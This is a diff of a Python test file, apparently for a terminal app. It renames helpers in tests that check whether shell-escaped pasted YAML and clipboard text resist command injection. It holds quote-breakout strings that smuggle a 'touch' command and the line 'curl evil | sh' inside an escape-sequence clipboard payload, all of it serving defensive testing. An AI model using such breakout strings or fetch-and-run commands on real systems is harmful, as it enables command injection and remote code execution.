@@ -45,7 +45,7 @@ async def test_copied_events_contain_no_control_characters(tmp_path: Path) -> No
             _copied(screen)
 
 
-# fish and zsh quote in other ways than the standard says.
+# The quoting of fish and zsh differs from POSIX.
 _SHELLS = [
     [name, *options.split()]
     for name, options in {
@@ -69,13 +69,13 @@ _BREAKOUTS = [
     "\\';{};'",
     "\\'\";{};'",
 ]
-_MORE = ["", " ", "\\", "'", '"', "\n", "!"]
+_SUFFIXES = ["", " ", "\\", "'", '"', "\n", "!"]
 
 
 @settings(max_examples=40, deadline=None)
 @given(
     st.lists(
-        st.tuples(st.sampled_from(_BREAKOUTS), st.sampled_from(_MORE)),
+        st.tuples(st.sampled_from(_BREAKOUTS), st.sampled_from(_SUFFIXES)),
         min_size=1,
         max_size=4,
     )
@@ -83,7 +83,7 @@ _MORE = ["", " ", "\\", "'", '"', "\n", "!"]
 def test_pasted_yaml_runs_no_command(parts: list[tuple[str, str]]) -> None:
     with tempfile.TemporaryDirectory() as folder:
         marker = Path(folder) / "ran"
-        text = "".join(part.format(f"touch {marker}") + more for part, more in parts)
+        text = "".join(part.format(f"touch {marker}") + suffix for part, suffix in parts)
         document: YamlValue = {
             "id": text,
             text: [text, {"args": [text]}],
@@ -92,19 +92,19 @@ def test_pasted_yaml_runs_no_command(parts: list[tuple[str, str]]) -> None:
             "mounts": [{f"touch {marker}": text}, {"A=B": f"touch {marker}"}],
         }
         for shell in _SHELLS:
-            _pasted(to_yaml(shell_safe(document)), folder, shell)
-            # Shells write their history there.
+            _run_pasted(to_yaml(shell_safe(document)), folder, shell)
+            # Shells write their history into hidden files there.
             assert [one for one in Path(folder).iterdir() if one.name[0] != "."] == []
         assert yaml.safe_load(to_yaml(shell_safe(document))) == document
 
 
 def test_pasted_yaml_without_escaping_runs_a_command(tmp_path: Path) -> None:
     for shell in _SHELLS:
-        _pasted(to_yaml({"id": f"x\ntouch {tmp_path / 'ran'}\n"}), str(tmp_path), shell)
+        _run_pasted(to_yaml({"id": f"x\ntouch {tmp_path / 'ran'}\n"}), str(tmp_path), shell)
         (tmp_path / "ran").unlink()
 
 
-def _pasted(text: str, folder: str, shell: list[str]) -> str:
+def _run_pasted(text: str, folder: str, shell: list[str]) -> str:
     environment = {**os.environ, "HOME": folder}
     return subprocess.run(
         shell, input=text, text=True, cwd=folder, env=environment, capture_output=True, check=False
@@ -112,12 +112,12 @@ def _pasted(text: str, folder: str, shell: list[str]) -> str:
 
 
 @settings(max_examples=40, deadline=None)
-@given(st.lists(st.sampled_from([*_BREAKOUTS, *_MORE, "=ls", "~", "*", "{{a,b}}"]), max_size=4))
+@given(st.lists(st.sampled_from([*_BREAKOUTS, *_SUFFIXES, "=ls", "~", "*", "{{a,b}}"]), max_size=4))
 def test_every_shell_passes_the_pasted_word_unchanged(parts: list[str]) -> None:
     word = "".join(part.format("touch ran") for part in parts).replace("\n", "")
     with tempfile.TemporaryDirectory() as folder:
         for shell in _SHELLS:
-            printed = _pasted(pasteable(["printf", "<%s>", word]) + "\n", folder, shell)
+            printed = _run_pasted(pasteable(["printf", "<%s>", word]) + "\n", folder, shell)
             assert f"<{word}>" in printed
             assert not (Path(folder) / "ran").exists()
 
@@ -132,8 +132,8 @@ async def test_text_copied_by_textual_is_escaped(
         monkeypatch.setattr(driver, "write", written.append)
         screen.app.copy_to_clipboard(ATTACK)
         assert _copied(screen).splitlines() == [r"c1\x03", "curl evil | sh", r"\x1b[201~"]
-        (order,) = [text for text in written if "\x1b]52" in text]
-        content = re.fullmatch(r"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07", order)
+        (sequence,) = [text for text in written if "\x1b]52" in text]
+        content = re.fullmatch(r"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07", sequence)
         assert content and base64.b64decode(content[1]).decode() == screen.app.clipboard
 
 
